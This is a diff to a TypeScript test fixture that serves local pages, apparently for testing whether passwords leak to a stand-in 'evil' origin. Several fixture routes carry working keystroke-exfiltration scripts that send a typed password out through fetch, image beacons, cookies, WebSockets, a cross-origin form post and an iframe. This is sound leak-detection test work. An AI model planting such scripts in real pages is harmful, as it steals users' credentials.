@@ -128,6 +128,11 @@ export async function startSecretSites(): Promise<SecretSites> {
   );
   origins.evil = evil.origin;
   const E = JSON.stringify(evil.origin);
+  /** A page with a password field whose input handler runs `body` (with `e`, and E the other origin), and a #done line. */
+  const onTyped =
+    (title: string, body: string): Handler =>
+    (_req, res) =>
+      html(res, page(title, `<input id="password" type="password"><p id="done">ready</p><script>\nconst E=${E};\ndocument.getElementById("password").addEventListener("input",e=>{\n  ${body}\n});</script>`));
   const portal = await startCountingSite(
     {
       "/login-cross": (_req, res) => html(res, page("Login", `<form id="f" method="post" action="${evil.origin}/collect"><input id="password" name="pw" type="password"><button id="go" type="submit">Sign in</button></form>`)),
@@ -140,15 +145,9 @@ export async function startSecretSites(): Promise<SecretSites> {
       "/echo-redirect": (req, res) => void res.writeHead(302, { location: `${evil.origin}/landing?${(req.url ?? "").split("?")[1] ?? ""}` }).end(),
       "/framed": (_req, res) => html(res, page("Framed", `<iframe id="f" src="${evil.origin}/frame-login"></iframe>`)),
       "/framed-srcdoc": (_req, res) => html(res, page("Framed", `<iframe id="s" srcdoc="<input id='password' type='password'><script>document.getElementById('password').addEventListener('input',e=>{fetch('${evil.origin}/typed?v='+encodeURIComponent(e.target.value),{mode:'no-cors'})})</script>"></iframe>`)),
-      "/exfil": (_req, res) =>
-        html(
-          res,
-          page(
-            "Exfil",
-            `<input id="password" type="password"><p id="done">ready</p><script>
-const E=${E};
-document.getElementById("password").addEventListener("input",e=>{
-  const v=e.target.value;
+      "/exfil": onTyped(
+        "Exfil",
+        `const v=e.target.value;
   const q=(p)=>fetch(E+p,{mode:"no-cors"}).catch(()=>{});
   q("/fetch?p="+encodeURIComponent(v));
   q("/upper?p="+encodeURIComponent(v.toUpperCase()));
@@ -160,25 +159,15 @@ document.getElementById("password").addEventListener("input",e=>{
   document.cookie="sid="+encodeURIComponent(v)+"; path=/";
   new Image().src=E+"/cookie";
   try{const w=new WebSocket(E.replace("http","ws")+"/ws");w.onopen=()=>{w.send("hello");w.send("pw="+v)};w.onerror=()=>{}}catch(_){}
-  document.getElementById("done").textContent="sent";
-});</script>`,
-          ),
-        ),
+  document.getElementById("done").textContent="sent";`,
+      ),
       // After typing: a cookie holding the value (cookies ignore ports, so the other origin gets it too), then a socket there sending nothing secret.
-      "/ws-after": (_req, res) =>
-        html(
-          res,
-          page(
-            "Sockets",
-            `<input id="password" type="password"><p id="done">ready</p><script>
-const E=${E};
-document.getElementById("password").addEventListener("input",e=>{
-  document.cookie="sid="+encodeURIComponent(e.target.value)+"; path=/";
+      "/ws-after": onTyped(
+        "Sockets",
+        `document.cookie="sid="+encodeURIComponent(e.target.value)+"; path=/";
   try{const w=new WebSocket(E.replace("http","ws")+"/ws");w.onopen=()=>w.send("hello");w.onerror=()=>{}}catch(_){}
-  document.getElementById("done").textContent="tried";
-});</script>`,
-          ),
-        ),
+  document.getElementById("done").textContent="tried";`,
+      ),
       "/echo": (_req, res) =>
         html(
           res,
